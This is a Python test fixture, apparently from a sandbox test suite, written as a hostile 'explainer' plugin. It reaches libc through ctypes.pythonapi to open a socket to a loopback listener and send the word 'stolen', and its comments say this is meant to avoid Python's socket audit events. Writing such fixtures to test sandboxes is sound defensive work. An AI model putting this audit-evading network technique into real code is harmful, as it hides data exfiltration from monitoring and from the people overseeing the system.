"""Hostile: connects to a listener on the host's loopback through libc (no socket audit event)."""

import json
import os

import numpy as np

from gecobench.explainers import Explainer

# Filled in by the test with the host's real paths (what an attacker who knows the host would aim at).
HOST = json.loads(r"""__HOST__""")
# libc is reached through ctypes.pythonapi (the interpreter's own handle): no dlopen, no audit event.


def _errno() -> int:
    import ctypes

    location = ctypes.pythonapi.__errno_location
    location.restype = ctypes.POINTER(ctypes.c_int)
    return location().contents.value


class CtypesConnect(Explainer):
    name = "net_ctypes_connect"

    def explain(self, model, tokenizer, words, targets):
        import ctypes
        import struct

        libc = ctypes.pythonapi
        fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
        # struct sockaddr_in: family in host byte order, then port and address in network byte order.
        address = struct.pack("=H", 2) + struct.pack("!H4s8x", HOST["port"], bytes([127, 0, 0, 1]))
        if libc.connect(fd, address, len(address)) != 0:
            error = _errno()
            raise ConnectionRefusedError(error, os.strerror(error))
        libc.send(fd, b"stolen", 6, 0)
        return [np.ones(len(w)) for w in words]
